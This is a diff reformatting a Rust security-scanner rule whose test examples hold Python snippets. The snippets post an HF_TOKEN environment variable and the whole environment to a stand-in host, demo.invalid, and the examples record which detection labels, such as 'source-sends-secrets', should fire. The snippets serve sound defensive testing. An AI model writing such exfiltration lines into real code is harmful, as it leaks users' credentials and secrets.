@@ -30,19 +30,35 @@ pub static RULE: Rule = Rule {
     examples: &[
         Example {
             name: "token",
-            files: || function("import os, requests", "requests.post('https://demo.invalid', data=os.environ['HF_TOKEN'])"),
+            files: || {
+                function(
+                    "import os, requests",
+                    "requests.post('https://demo.invalid', data=os.environ['HF_TOKEN'])",
+                )
+            },
             fires: &["source-opens-network", "source-sends-secrets"],
         },
         Example {
             name: "token-twin",
-            files: || function("import os, requests", "requests.post('https://demo.invalid', data=os.environ['HOME'])"),
+            files: || {
+                function(
+                    "import os, requests",
+                    "requests.post('https://demo.invalid', data=os.environ['HOME'])",
+                )
+            },
             fires: &["source-opens-network"],
         },
-        Example { name: "token-alone-twin", files: || function("import os", "return os.environ['HF_TOKEN']"), fires: &[] },
+        Example {
+            name: "token-alone-twin",
+            files: || function("import os", "return os.environ['HF_TOKEN']"),
+            fires: &[],
+        },
         Example {
             name: "environment",
             files: || {
-                module("import os, urllib.request\nurllib.request.urlopen('https://demo.invalid', str(dict(os.environ)).encode())")
+                module(
+                    "import os, urllib.request\nurllib.request.urlopen('https://demo.invalid', str(dict(os.environ)).encode())",
+                )
             },
             fires: &["source-opens-network", "source-sends-secrets"],
         },
